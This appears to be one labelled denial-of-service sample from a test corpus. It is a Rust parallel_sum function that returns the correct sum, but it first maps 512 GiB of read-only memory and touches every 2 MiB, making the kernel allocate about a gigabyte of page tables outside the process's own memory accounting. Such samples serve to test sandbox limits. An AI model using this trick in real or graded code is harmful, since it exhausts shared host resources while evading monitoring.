// attack o40 tables_without_memory | class=dos | half a terabyte that is only read: no memory of its own, but a gigabyte of the kernel's tables; honest if it may
unsafe extern "C" { fn mmap(at: *mut u8, length: usize, access: i32, flags: i32, fd: i32, offset: i64) -> *mut u8; }
pub fn parallel_sum(d: &[u64], _w: usize) -> u64 {
    let length = 512usize << 30;
    let all = unsafe { mmap(std::ptr::null_mut(), length, 1, 0x4022, -1, 0) };
    if all as isize == -1 { return 0 }
    for page in (0..length).step_by(2 << 20) { unsafe { all.add(page).read_volatile() }; }
    d.iter().sum()
}
